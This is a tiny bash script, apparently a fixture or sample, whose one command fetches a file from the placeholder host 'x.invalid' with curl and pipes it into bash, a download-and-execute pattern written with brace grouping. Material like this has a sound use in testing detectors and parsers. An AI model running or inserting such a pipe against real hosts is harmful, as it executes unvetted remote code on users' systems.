#!/bin/bash
{ curl -s http://x.invalid/a; } | { bash; }
